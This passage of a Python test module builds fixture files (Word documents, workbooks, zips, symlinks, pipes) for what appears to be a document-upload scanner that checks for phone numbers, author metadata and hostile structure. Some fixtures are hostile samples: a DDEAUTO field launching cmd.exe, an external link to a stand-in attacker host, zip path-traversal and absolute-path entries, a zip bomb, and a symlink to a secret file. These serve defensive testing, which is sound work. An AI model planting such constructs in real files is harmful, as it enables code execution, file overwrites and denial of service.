            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("externalLinkPath", "https://evil.example/x.xlsx"), outer=True
            )
        },
    ),
    "word-phone-comment": lambda: zipped(
        {
            **parts_of(SAYS),
            "word/comments.xml": f"<w:comments {W}><w:p><w:r><w:t>{PHONE}</w:t></w:r></w:p></w:comments>",
        }
    ),
    "word-phone-deleted": lambda: zipped(
        parts_of(f"<w:p><w:del><w:r><w:delText>{PHONE}</w:delText></w:r></w:del></w:p>")
    ),
    "word-phone-header": lambda: zipped(
        {**parts_of(SAYS), "word/header1.xml": f"<w:hdr {W}><w:p><w:r><w:t>{PHONE}</w:t></w:r></w:p></w:hdr>"}
    ),
    "word-dde": lambda: zipped(
        parts_of("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>")
    ),
    "word-embedded-phone": lambda: zipped(
        {**parts_of(SAYS), "word/embeddings/Sheet1.xlsx": workbook([["13800138000"]])}
    ),
    "word": lambda: zipped(parts_of(SAYS)),
    "word-author": lambda: zipped(
        {
            **parts_of(SAYS),
            "docProps/core.xml": '<c:coreProperties xmlns:c="urn:c" xmlns:d="urn:d"><d:creator>张某某</d:creator>'
            "</c:coreProperties>",
        }
    ),
    "word-without-main-part": lambda: zipped({"_rels/.rels": relations(("officeDocument", "word/document.xml"))}),
    "workbook-named-docx": lambda: workbook([["甲"]]),
    "word-with-a-damaged-picture": lambda: zipped(
        {**parts_of(SAYS), "word/media/a.png": b"0123456789" * 50}, zipfile.ZIP_STORED
    ).replace(b"0123456789", b"0123X56789", 1),
    "word-online": lambda: zipped(
        {
            **{name: words for name, words in parts_of(SAYS).items() if not name.startswith("word/document")},
            "_rels/.rels": relations(("officeDocument", "word/document2.xml")),
            "word/document2.xml": MAIN,
        }
    ),
    "zip-cut": lambda: cut(zipped({"a.csv": "甲,乙\n" * 99})),
    "zip-with-a-damaged-member": lambda: zipped({"a.csv": "甲,乙\n" * 99}, zipfile.ZIP_STORED).replace(b",", b";", 1),
    "zip-with-a-broken-picture": lambda: zipped({"a.jpg": cut(drawn("JPEG"))}),
    "zip": lambda: zipped({"a.csv": "甲,乙\n"}),
    "zip-phone": lambda: zipped({"名单/a.csv": PHONE}),
    "zip-workbook-phone": lambda: zipped({"a.xlsx": workbook([["13800138000"]])}),
    "zip-climbing": lambda: zipped({"../../evil.txt": "x"}),
    "zip-absolute": lambda: zipped({"/etc/evil": "x"}),
    "zip-program": lambda: zipped({"a.exe": "MZ"}),
    "zip-nested": lambda: zipped({"a.zip": zipped({"b.txt": "x"})}),
    "zip-bomb": lambda: zipped({"a.txt": bytes(210_000_000)}),
}


def place_file(path: Path, make: str, beside: Path) -> None:
    """Put a link, pipe, socket or one of MAKERS at ``path``; ``beside`` is a folder whose content must never leak."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if make == "link":
        path.symlink_to(beside / "secret.txt")
    elif make == "folder-link":
        path.symlink_to(beside)
    elif make == "dangling":
        path.symlink_to("/nowhere/at/all")
    elif make == "loop":
        path.symlink_to(path.name)
    elif make == "folder":
        path.mkdir()
    elif make == "pipe":
        os.mkfifo(path)
    elif make == "socket":
        here = Path.cwd()
        os.chdir(path.parent)  # the address of a socket may have a hundred bytes
        try:
            with socket.socket(socket.AF_UNIX) as listener:
                listener.bind(path.name)
        finally:
            os.chdir(here)
    else:
        path.write_bytes(MAKERS[make]())
